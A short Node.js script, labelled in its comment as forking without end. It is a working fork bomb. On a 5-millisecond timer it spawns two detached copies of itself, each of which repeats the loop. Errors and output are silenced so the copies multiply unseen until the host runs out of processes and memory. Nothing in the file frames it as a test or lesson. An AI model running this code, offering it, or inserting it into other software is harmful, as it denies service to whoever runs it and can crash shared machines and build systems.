// Forks without end.
import { spawn } from 'node:child_process';

function fork() {
  const child = spawn(process.execPath, [process.argv[1], ...process.argv.slice(2)], { stdio: 'ignore', detached: true });
  child.on('error', () => undefined);
}
setInterval(() => {
  fork();
  fork();
}, 5);
